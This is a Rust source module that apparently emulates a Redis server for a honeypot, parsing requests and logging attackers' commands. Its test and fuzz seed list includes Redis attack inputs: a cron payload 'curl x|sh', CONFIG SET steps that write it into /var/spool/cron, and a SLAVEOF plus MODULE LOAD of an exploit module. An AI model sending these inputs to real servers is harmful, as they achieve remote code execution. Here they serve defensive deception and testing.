//! Redis, the in-memory database.
//!
//! All clients of a decky share one [`instance::Instance`]: what one writes the other reads,
//! and INFO counts them. The data flow of one request: [`request::Parser`] takes it apart,
//! [`commands`] answers with [`reply::Reply`]s, which are written in the version of the
//! protocol that the client chose. Nothing of a peer's is ever executed.

pub mod client;
mod commands;
mod info;
pub mod instance;
pub mod keyspace;
mod rdb;
pub mod reply;
pub mod request;
pub mod table;
#[cfg(test)]
mod tests;
pub mod version;

use std::{
    sync::atomic::{AtomicU64, Ordering},
    time::Duration,
};

use decnet_event::Kind;
use decnet_proto::{persona::ServiceSpec, service::ServiceId};

use crate::{Conn, ConnectionService, End, Host, ServiceError, identity};
use client::Client;
use commands::Call;
use instance::Instance;
use request::{Parser, Progress};

/// Inputs that a client would send, from which tests and fuzzers start.
pub const SEEDS: &[&[u8]] = &[
    b"*1\r\n$4\r\nPING\r\n",
    b"INFO\r\nCONFIG GET *\r\nKEYS *\r\nSCAN 0 MATCH a* COUNT 5\r\n",
    b"AUTH default secret\r\nHELLO 3 AUTH default secret SETNAME x\r\nCLIENT LIST\r\n",
    b"*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$22\r\n\n\n* * * * * curl x|sh\n\n\r\n",
    b"CONFIG SET dir /var/spool/cron\r\nCONFIG SET dbfilename root\r\nSAVE\r\n",
    b"SLAVEOF 192.0.2.1 6379\r\nMODULE LOAD /tmp/exp.so\r\nSLAVEOF NO ONE\r\n",
    b"EVAL \"return {1, 'a' .. KEYS[1], redis.call('get', KEYS[1])}\" 1 k\r\n",
    b"MULTI\r\nSET a 1\r\nINCR a\r\nLPUSH l a b c\r\nLRANGE l 0 -1\r\nZADD z 1 a\r\nEXEC\r\n",
    b"SUBSCRIBE a b\r\nPING\r\nUNSUBSCRIBE\r\nQUIT\r\n",
    b"PSYNC ? -1\r\n",
];

/// Bytes of answers that wait while more requests of the same read are answered.
const ANSWERS: usize = 64 * 1024;
/// Commands that are HTTP or SMTP meant for somebody else: Redis drops the connection.
const FOREIGN: [&str; 2] = ["post", "host:"];

/// Redis of one decky.
#[derive(Debug)]
pub struct Redis {
    instance: Instance,
    next_client: AtomicU64,
}

impl ConnectionService for Redis {
    fn build(spec: &ServiceSpec, host: &Host) -> Result<Self, ServiceError> {
        let persona = &host.persona;
        let version = spec.key("version").unwrap_or(&spec.product.version);
        let version = version.parse().map_err(|()| ServiceError::Key {
            service: ServiceId::Redis,
            key: "version",
            problem: format!("{version:?} is no version; one is written 7.0.15"),
        })?;
        let own = format!("{} {}", persona.system.kernel, persona.system.machine);
        let os = spec.key("os_string").map_or(own, str::to_owned);
        let next_client = AtomicU64::new(3 + identity::number(&persona.key, "redis clients", 5_000));
        Ok(Self { instance: Instance::new(persona, version, os, spec.key("password")), next_client })
    }

    async fn serve(&self, conn: &mut Conn) -> Result<(), End> {
        // Redis itself waits for ever; a session's life ends it.
        conn.set_idle_timeout(Duration::from_secs(24 * 3_600));
        let mut client = self.enter(conn);
        let ended = self.converse(conn, &mut client).await;
        self.instance.state().clients.remove(&client.id);
        ended
    }
}

impl Redis {
    fn enter(&self, conn: &Conn) -> Client {
        let id = self.next_client.fetch_add(1, Ordering::Relaxed);
        let mut state = self.instance.state();
        state.counters.connections += 1;
        state.clients.insert(id, format!("addr={} laddr={}", conn.peer(), conn.local()));
        Client::new(id, state.settings.get("requirepass").is_none_or(String::is_empty))
    }

    async fn converse(&self, conn: &mut Conn, client: &mut Client) -> Result<(), End> {
        let mut parser = Parser::default();
        let mut answers = Vec::new();
        loop {
            let before = parser.held();
            let (used, progress) = match parser.advance(conn.buffered(), !client.known) {
                Ok(step) => step,
                Err(error) => {
                    conn.protocol_error("malformed request", conn.buffered());
                    answers.extend_from_slice(format!("-ERR Protocol error: {error}\r\n").as_bytes());
                    return conn.write(&answers).await;
                }
            };
            conn.consume(used);
            conn.release(before);
            conn.claim(parser.held())?;
            let more = progress == Progress::More;
            if let Progress::Request(request) = progress {
                self.answer(conn, client, &request, &mut answers);
            }
            if client.closing || ((more || answers.len() > ANSWERS) && !answers.is_empty()) {
                self.instance.state().counters.output += answers.len() as u64;
                conn.write(&std::mem::take(&mut answers)).await?;
            }
            if client.closing {
                return Ok(());
            }
            if more {
                let count = conn.fill().await?;
                self.instance.state().counters.input += count as u64;
            }
        }
    }

    fn answer(&self, conn: &Conn, client: &mut Client, request: &[Vec<u8>], answers: &mut Vec<u8>) {
        let Some((name, args)) = request.split_first() else { return };
        let lower = String::from_utf8_lossy(name).to_ascii_lowercase();
        if FOREIGN.contains(&lower.as_str()) {
            conn.protocol_error("HTTP", &request.join(&b' '));
            // Redis drops what it has not sent yet, too.
            answers.clear();
            client.closing = true;
            return;
        }
        // A log-in is an event of its own.
        if lower != "auth" {
            conn.emit(Kind::Command { command: name.clone(), args: shown(args) });
        }
        let mut state = self.instance.state();
        let mut call =
            Call { conn, instance: &self.instance, state: &mut state, client, args, now: conn.now() };
        let replies = commands::answer(&mut call, &lower);
        if !call.client.silent {
            replies.iter().for_each(|reply| reply.write(call.client.version, answers));
        }
    }
}

/// Arguments as one line: those with white space in quotes.
fn shown(args: &[Vec<u8>]) -> Vec<u8> {
    let mut out = Vec::new();
    for arg in args {
        if !out.is_empty() {
            out.push(b' ');
        }
        let quoted = arg.is_empty() || arg.iter().any(u8::is_ascii_whitespace);
        if quoted {
            out.push(b'"');
        }
        out.extend_from_slice(arg);
        if quoted {
            out.push(b'"');
        }
    }
    out
}
